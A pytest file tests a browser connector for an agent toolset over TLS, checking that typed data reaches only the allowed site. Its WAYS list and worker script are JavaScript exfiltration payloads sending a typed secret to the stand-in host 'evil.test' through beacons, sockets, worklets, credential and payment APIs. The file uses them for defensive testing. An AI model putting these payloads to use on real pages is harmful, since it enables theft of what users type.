"""Over TLS, where pages may do more: service workers, and tunnels whose content the proxy does not see."""

from __future__ import annotations

import base64
import hashlib
import ssl
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest
import trustme
from cryptography import x509
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from tests.servers import pages
from tests.servers.pages import Page, Sites
from tests.servers.programme import programme
from tests.unit.connectors.browser.conftest import HOSTS, Hands, element, text_of

from isthmus.connectors.browser import chromium
from isthmus.connectors.browser.account import Account
from isthmus.connectors.browser.toolset import BrowserToolset

pytestmark = pytest.mark.anyio
SECRET = "iban-DE02-1203"


@pytest.fixture(scope="module")
def certificate() -> trustme.LeafCert:
    return trustme.CA().issue_cert(*HOSTS)


@pytest.fixture(scope="module")
def secure(certificate: trustme.LeafCert) -> Iterator[Sites]:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    certificate.configure_cert(context)
    with pages.running(context=context) as sites:
        yield sites


@pytest.fixture(scope="module")
async def trusting(
    anyio_backend: str, secure: Sites, certificate: trustme.LeafCert, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[Hands]:
    """A browser that trusts the certificate of the sites; people's browsers have others."""
    key = x509.load_pem_x509_certificate(certificate.cert_chain_pems[0].bytes()).public_key()
    pin = hashlib.sha256(key.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)).digest()
    trust = f"--ignore-certificate-errors-spki-list={base64.b64encode(pin).decode()}"
    folder: Path = tmp_path_factory.mktemp("trusting")
    account = Account(chromium=str(programme("chromium")), allow=HOSTS, seconds=6)
    tools = BrowserToolset("surf", account, labels=frozenset(), profile=folder / "profile", look_up=secure.look_up)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(chromium, "_QUIET", (*chromium._QUIET, trust))
        await tools.check()
    yield Hands(tools=tools, sites=secure)
    await tools.aclose()


@pytest.fixture
async def over_tls(trusting: Hands) -> Hands:
    await trusting.forget()
    trusting.sites.clear()
    return trusting


def _url(sites: Sites, host: str, path: str, page: Page | str) -> str:
    return sites.put(host, path, page).replace("http://", "https://")


async def test_a_form_is_sent_through_a_tunnel(over_tls: Hands) -> None:
    sites = over_tls.sites
    sites.put("shop.test", "/ordered", lambda asked: Page(body=f"<p>Thank you, {asked.form['name']}.</p>"))
    url = _url(sites, "shop.test", "/", "<form method=post action=/ordered><input aria-label=Name name=name></form>")
    page = await over_tls.open(url)
    done = await over_tls.do("type", element=element(page, "Name"), text="Ada", submit=True)
    assert text_of(done.items[0]) == "Thank you, Ada."


WAYS = [
    "navigator.serviceWorker.register('/sw.js').then(r => r.installing.postMessage(this.value))",
    "navigator.sendBeacon(E + '/b', this.value)",
    "new WebSocket(E.replace('https', 'wss') + '/w?' + this.value)",
    "new WebSocketStream(E.replace('https', 'wss') + '/s?' + this.value)",
    "new WebTransport(E + '/t?' + this.value)",
    "fetch('/away?' + this.value, {mode: 'no-cors', method: 'POST', body: this.value})",
    "fetch(E + '/f', {mode: 'no-cors', method: 'POST', body: this.value, keepalive: true}); location = '/left'",
    "fetchLater(E + '/l?' + this.value, {activateAfter: 0}); location = '/left'",
    "new SharedWorker('/sw.js').port.postMessage(this.value)",
    "CSS.paintWorklet.addModule(E + '/p?' + this.value)",
    "navigator.credentials.get({federated: {providers: [E + '/c?' + this.value]}})",
    "new PaymentRequest([{supportedMethods: E + '/pay?' + this.value}], {total: {label: 'x', amount: "
    "{currency: 'EUR', value: '1'}}}).canMakePayment()",
]
STAYING = [way for way in WAYS if "location" not in way]


@pytest.mark.parametrize("ways", [STAYING, *([way] for way in WAYS if way not in STAYING)], ids=["staying", "f", "l"])
async def test_what_is_typed_reaches_nobody_but_the_site(over_tls: Hands, ways: list[str]) -> None:
    sites = over_tls.sites
    evil = sites.at("evil.test", "").replace("http", "https")
    worker = f"onmessage = onconnect = e => fetch('{evil}/sw?' + (e.data || 'connected'), {{mode: 'no-cors'}})"
    sites.put("shop.test", "/sw.js", Page(body=worker, media_type="text/javascript"))
    sites.put("shop.test", "/away", Page(status=307, headers=(("location", f"{evil}/away"),)))
    sites.put("shop.test", "/left", "<p>left</p>")
    script = " ".join(f"try {{ {way} }} catch (e) {{}}" for way in ways).replace('"', "&quot;")
    url = _url(
        sites,
        "shop.test",
        "/",
        f'<script>const E = "{evil}"</script><input aria-label=Account oninput="{script}">',
    )
    page = await over_tls.open(url)
    await over_tls.do("type", element=element(page, "Account"), text=SECRET)
    assert sites.hosts() == {"shop.test"}
    assert set(sites.looked_up) == {"shop.test"}


async def test_no_service_worker_stays_behind(over_tls: Hands) -> None:
    over_tls.sites.put("shop.test", "/sw.js", Page(body="onfetch = () => {}", media_type="text/javascript"))
    url = _url(
        over_tls.sites,
        "shop.test",
        "/",
        """<p id=p>waiting</p><script>navigator.serviceWorker.register('/sw.js').catch(() => {}).then(() =>
        navigator.serviceWorker.getRegistrations()).then(all => p.textContent = all.length + ' workers')</script>""",
    )
    assert text_of(await over_tls.open(url)) in {"0 workers", "waiting"}
    assert not any(asked.path == "/sw.js" for asked in over_tls.sites.asked)


async def test_a_certificate_that_is_not_trusted_is_not_accepted(hands: Hands, secure: Sites) -> None:
    failed = await hands.fails("open", url=f"https://shop.test:{secure.port}/")
    assert "certificate" in str(failed)
